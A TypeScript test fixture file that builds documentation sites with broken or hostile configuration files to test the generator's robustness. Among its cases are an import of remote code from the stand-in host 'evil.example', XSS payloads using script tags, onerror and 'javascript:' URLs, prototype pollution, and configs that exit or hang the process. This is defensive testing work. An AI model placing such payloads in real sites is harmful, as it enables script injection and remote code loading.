/** Configuration that is broken, hostile or endless. */
import { type MakeSite, site } from './broken-site.ts';

const withConfig = (code: string, name = 'site.ts'): MakeSite =>
  site({ 'content/docs/guide.md': '# Ports\n\nOpen the port.\n', [`config/${name}`]: code });
const sidebars = (value: string): MakeSite => withConfig(value, 'sidebars.json');

export const CONFIG_CASES: Readonly<Record<string, MakeSite>> = {
  'config-null': withConfig('export default null;\n'),
  'config-list': withConfig('export default [1, 2];\n'),
  'config-a-function': withConfig('export default () => ({ title: "Help" });\n'),
  'config-a-promise': withConfig('export default Promise.resolve({ title: "Help" });\n'),
  'config-a-promise-that-fails': withConfig('export default Promise.reject(new Error("no"));\n'),
  'config-a-promise-that-never-ends': withConfig(
    'await new Promise((resolve) => setTimeout(resolve, 1e8));\nexport default {};\n',
  ),
  'config-a-loop-without-end': withConfig('for (;;) {}\nexport default {};\n'),
  'config-a-getter-without-end': withConfig('export default { get title() { for (;;) {} } };\n'),
  'config-a-class': withConfig(
    'class Site { title = "Help"; get base() { return "/x/"; } }\nexport default new Site();\n',
  ),
  'config-a-proxy': withConfig(
    'export default new Proxy({}, { get() { throw new Error("no"); }, ownKeys() { return ["title"]; } });\n',
  ),
  'config-a-getter-that-throws': withConfig('export default { get title() { throw new Error("no"); } };\n'),
  'config-throws-null': withConfig('throw null;\n'),
  'config-throws-what-cannot-be-shown': withConfig(
    'throw { get message() { throw 1; }, toString() { throw 2; } };\n',
  ),
  'config-ends-the-process': withConfig('process.exit(0);\nexport default {};\n'),
  'config-prints': withConfig(
    'console.log("loud"); process.stdout.write("louder\\n"); export default { title: "Help" };\n',
  ),
  'config-keeps-the-process-busy': withConfig(
    'setInterval(() => {}, 1000); export default { title: "Help" };\n',
  ),
  'config-fails-later': withConfig(
    'setTimeout(() => { throw new Error("later"); }, 1); Promise.reject(new Error("unheard")); export default { title: "Help" };\n',
  ),
  'config-pollutes-prototypes': withConfig(
    'Object.prototype.polluted = 1; Array.prototype.extra = "x"; export default { title: "Help" };\n',
  ),
  'config-prototype-keys': withConfig(
    '{ "__proto__": { "title": "x" }, "constructor": { "prototype": {} } }\n',
    'site.json',
  ),
  'config-imports-itself': withConfig(
    'import self from "./site.ts";\nexport default { title: self?.title ?? "Help" };\n',
  ),
  'config-imports-from-the-web': withConfig(
    'import x from "https://evil.example/x.js";\nexport default x;\n',
  ),
  'config-imports-out-of-the-site': withConfig('import x from "../../../nothing/x.ts";\nexport default x;\n'),
  'config-very-large': withConfig(`export default { title: "${'x'.repeat(3_000_000)}" };\n`),
  'config-very-deep': withConfig(`${'['.repeat(20_000)}${']'.repeat(20_000)}\n`, 'site.json'),
  'config-deep-in-a-key': withConfig(
    'let a: unknown = "x"; for (let i = 0; i < 50000; i++) a = [a];\nexport default { footer: a };\n',
  ),
  'config-many-links': withConfig(
    'export default { links: Array.from({ length: 4000 }, (_, i) => ({ label: "L" + i, href: "/docs/guide" })) };\n',
    'navigation.ts',
  ),
  'config-empty-file': withConfig(''),
  'config-json-empty': withConfig('', 'site.json'),
  'config-json-with-comments': withConfig('// site\n{ "title": "Help", }\n', 'site.json'),
  'config-markup': withConfig(
    `export default { title: '"><script>alert(1)</script>', tagline: '</title><script>alert(1)</script>', description: '"><img src=x onerror=alert(1)>' };\n`,
  ),
  'config-invisible-title': withConfig('export default { title: "He\\u0000lp\\u202e\\u001b[31m" };\n'),
  'config-addresses': withConfig(
    'export default { url: "javascript:alert(1)", base: "/a b/../c?d#e/", favicon: "//evil.example/x.ico" };\n',
  ),
  'config-wrong-language': withConfig('module.exports = { title: "Help" };\n'),
  'config-typescript-in-js': withConfig('const a: string = "x";\nexport default { title: a };\n', 'site.js'),
  'sidebars-of-prototypes': sidebars('{ "__proto__": ["guide"], "constructor": ["guide"] }\n'),
  'sidebars-very-deep': sidebars(
    `{ "docs": ${'[{ "type": "category", "label": "x", "items": '.repeat(500)}["guide"]${' }]'.repeat(500)} }\n`,
  ),
  'sidebars-many-items': sidebars(
    `{ "docs": [${Array.from({ length: 4000 }, () => '"guide"').join(',')}] }\n`,
  ),
  'sidebars-empty': sidebars('{}\n'),
  'sidebars-null-items': sidebars(
    '{ "docs": [null, 1, "", [], {}, { "type": "category" }, { "type": "doc" }] }\n',
  ),
};

/** Cases that must not share a process with anything: they leave timers or failures behind. */
export const PROCESSES: ReadonlySet<string> = new Set([
  'config-a-promise-that-fails',
  'config-a-promise-that-never-ends',
  'config-fails-later',
  'config-keeps-the-process-busy',
  'config-prints',
]);
